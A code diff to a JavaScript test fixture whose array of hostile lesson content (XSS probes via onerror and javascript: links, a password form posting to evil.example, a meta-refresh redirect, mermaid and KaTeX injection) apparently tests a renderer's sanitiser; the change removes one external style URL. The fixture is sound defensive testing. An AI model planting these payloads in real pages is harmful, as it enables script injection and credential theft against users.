@@ -248,7 +248,7 @@ const MALICIOUS_LESSON = [
   '<form action="https://evil.example"><input type="password" name="password"></form>',
   `$\\href{javascript:alert(1)}{x}$ and $\\text{<img src=x onerror=alert(1)>}$ ${SENTENCE.repeat(2)}`,
   '```html\n<script>alert("shown as code")</script>\n```',
-  '```mermaid\nflowchart LR\n A["<img src=x onerror=alert(1)>drawn"] --> B["<a href=javascript:alert(2)>b</a>"]\n click A "javascript:alert(3)"\n style B fill:url(https://evil.example)\n```',
+  '```mermaid\nflowchart LR\n A["<img src=x onerror=alert(1)>drawn"] --> B["<a href=javascript:alert(2)>b</a>"]\n click A "javascript:alert(3)"\n style B fill:red\n```',
   '### Key points',
   `- ${SENTENCE}\n- [a source](http://evil.example)\n- <meta http-equiv="refresh" content="0;url=https://evil.example">the end`,
 ].join('\n\n');
